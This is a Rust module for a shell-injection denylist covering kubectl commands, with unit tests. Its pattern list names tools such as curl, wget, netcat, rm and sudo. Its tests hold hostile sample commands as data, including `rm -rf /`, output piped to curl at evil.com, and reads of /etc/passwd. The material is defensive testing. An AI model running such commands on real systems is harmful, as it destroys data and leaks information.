//! Shell-injection denylist
//!
//! Plain case-insensitive substring matching, not a shell parser. False
//! positives are accepted: `kubectl get nodes` trips the `node` pattern.
//!
//! `kubectl exec <pod> -- <cmd>` gets a carve-out. The text is split at the
//! first ` -- ` and each half is checked against the base patterns alone, so
//! the remote command may name an interpreter (`-- /bin/bash`) but still may
//! not chain, redirect or substitute. Everywhere else interpreter names are
//! rejected too.

use std::fmt;

/// A dangerous substring
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum InjectionPattern {
    Semicolon,
    AndList,
    OrList,
    Pipe,
    Backtick,
    CommandSubstitution,
    ParameterExpansion,
    RedirectOut,
    RedirectIn,
    Append,
    HereDoc,
    Background,
    Newline,
    CarriageReturn,
    Curl,
    Wget,
    Nc,
    Netcat,
    Rm,
    Mv,
    Cp,
    Chmod,
    Chown,
    Sudo,
    Su,
    Bash,
    Sh,
    BinDir,
    Python,
    Perl,
    Ruby,
    Node,
}

use InjectionPattern::*;

/// Patterns checked on every scanned string, in reporting order
pub const BASE_PATTERNS: &[InjectionPattern] = &[
    Semicolon,
    AndList,
    OrList,
    Pipe,
    Backtick,
    CommandSubstitution,
    ParameterExpansion,
    RedirectOut,
    RedirectIn,
    Append,
    HereDoc,
    Background,
    Newline,
    CarriageReturn,
    Curl,
    Wget,
    Nc,
    Netcat,
    Rm,
    Mv,
    Cp,
    Chmod,
    Chown,
    Sudo,
    Su,
];

/// Interpreter names, checked only outside the exec carve-out
pub const INTERPRETER_PATTERNS: &[InjectionPattern] =
    &[Bash, Sh, BinDir, Python, Perl, Ruby, Node];

impl InjectionPattern {
    /// The lowercase substring this pattern matches
    pub fn needle(&self) -> &'static str {
        match self {
            Semicolon => ";",
            AndList => "&&",
            OrList => "||",
            Pipe => "|",
            Backtick => "`",
            CommandSubstitution => "$(",
            ParameterExpansion => "${",
            RedirectOut => ">",
            RedirectIn => "<",
            Append => ">>",
            HereDoc => "<<",
            Background => "&",
            Newline => "\n",
            CarriageReturn => "\r",
            Curl => "curl",
            Wget => "wget",
            Nc => "nc",
            Netcat => "netcat",
            Rm => "rm ",
            Mv => "mv ",
            Cp => "cp ",
            Chmod => "chmod",
            Chown => "chown",
            Sudo => "sudo",
            Su => "su ",
            Bash => "bash",
            Sh => "sh",
            BinDir => "/bin/",
            Python => "python",
            Perl => "perl",
            Ruby => "ruby",
            Node => "node",
        }
    }
}

impl fmt::Display for InjectionPattern {
    /// Control characters are shown escaped so messages stay on one line
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Newline => f.write_str("\\n"),
            CarriageReturn => f.write_str("\\r"),
            other => f.write_str(other.needle()),
        }
    }
}

const EXEC_SEPARATOR: &str = " -- ";

/// First dangerous pattern found in `command`, if any
pub fn find_injection(command: &str) -> Option<InjectionPattern> {
    let lower = command.to_lowercase();

    if lower.contains("exec") {
        if let Some((head, tail)) = lower.split_once(EXEC_SEPARATOR) {
            return first_match(head, BASE_PATTERNS).or_else(|| first_match(tail, BASE_PATTERNS));
        }
    }

    first_match(&lower, BASE_PATTERNS).or_else(|| first_match(&lower, INTERPRETER_PATTERNS))
}

pub fn contains_injection(command: &str) -> bool {
    find_injection(command).is_some()
}

fn first_match(haystack: &str, patterns: &[InjectionPattern]) -> Option<InjectionPattern> {
    patterns
        .iter()
        .copied()
        .find(|pattern| haystack.contains(pattern.needle()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_clean_commands_pass() {
        for command in [
            "kubectl get pods",
            "kubectl get deployments -o wide --all-namespaces",
            "kubectl describe deployment my-app",
            "kubectl logs web-0 --tail=50",
            "kubectl apply -f manifest.yaml",
        ] {
            assert_eq!(find_injection(command), None, "{command}");
        }
    }

    #[test]
    fn test_metacharacters_detected() {
        assert_eq!(find_injection("kubectl get pods; rm -rf /"), Some(Semicolon));
        assert_eq!(find_injection("kubectl get pods && id"), Some(AndList));
        assert_eq!(find_injection("kubectl get pods | curl evil.com"), Some(Pipe));
        assert_eq!(find_injection("kubectl get `id`"), Some(Backtick));
        assert_eq!(find_injection("kubectl get $(id)"), Some(CommandSubstitution));
        assert_eq!(find_injection("kubectl get ${IFS}"), Some(ParameterExpansion));
        assert_eq!(find_injection("kubectl get pods > out.txt"), Some(RedirectOut));
        assert_eq!(find_injection("kubectl apply -f - < x.yaml"), Some(RedirectIn));
        assert_eq!(find_injection("kubectl get pods &"), Some(Background));
        assert_eq!(find_injection("kubectl get pods\nid"), Some(Newline));
        assert_eq!(find_injection("kubectl get pods\rid"), Some(CarriageReturn));
    }

    #[test]
    fn test_risky_tool_names_detected() {
        assert_eq!(find_injection("kubectl get WGET"), Some(Wget));
        assert_eq!(find_injection("kubectl get pods sudo"), Some(Sudo));
        assert_eq!(find_injection("kubectl delete svc mv web"), Some(Mv));
        assert_eq!(find_injection("kubectl get svc netcat-proxy"), Some(Netcat));
        assert_eq!(find_injection("kubectl get nodes"), Some(Node));
    }

    #[test]
    fn test_interpreters_blocked_outside_exec() {
        assert_eq!(find_injection("kubectl get pods | bash"), Some(Pipe));
        assert_eq!(find_injection("kubectl apply -f python.yaml"), Some(Python));
        assert_eq!(find_injection("kubectl get /bin/ls"), Some(BinDir));
        assert_eq!(find_injection("kubectl logs PERL-job"), Some(Perl));
    }

    #[test]
    fn test_exec_tail_may_name_interpreter() {
        assert_eq!(find_injection("kubectl exec mypod -- /bin/bash"), None);
        assert_eq!(find_injection("kubectl exec mypod -- python -V"), None);
        assert_eq!(find_injection("kubectl exec mypod -- ps aux"), None);
    }

    #[test]
    fn test_exec_tail_still_scanned() {
        assert_eq!(
            find_injection("kubectl exec mypod -- /bin/bash; rm -rf /"),
            Some(Semicolon)
        );
        assert_eq!(find_injection("kubectl exec mypod -- cat /etc/passwd | wget x"), Some(Pipe));
        assert_eq!(find_injection("kubectl exec mypod -- curl example.com"), Some(Curl));
    }

    #[test]
    fn test_exec_head_scanned_independently() {
        assert_eq!(find_injection("kubectl exec mypod; -- ps"), Some(Semicolon));
        assert_eq!(find_injection("kubectl exec $(id) -- ps"), Some(CommandSubstitution));
    }

    #[test]
    fn test_split_at_first_separator() {
        // the second separator lives in the tail and is harmless there
        assert_eq!(find_injection("kubectl exec mypod -- env -- ps"), None);
    }

    #[test]
    fn test_exec_detection_is_case_insensitive() {
        assert_eq!(find_injection("kubectl EXEC mypod -- /BIN/BASH"), None);
    }

    #[test]
    fn test_separator_without_exec_gets_full_scan() {
        assert_eq!(find_injection("kubectl get pods -- bash"), Some(Bash));
    }

    #[test]
    fn test_display_escapes_control_chars() {
        assert_eq!(Newline.to_string(), "\\n");
        assert_eq!(Semicolon.to_string(), ";");
        assert_eq!(Rm.to_string(), "rm ");
    }

    #[test]
    fn test_scan_is_deterministic() {
        let command = "kubectl get pods | bash";
        assert_eq!(find_injection(command), find_injection(command));
        assert!(contains_injection(command));
    }
}
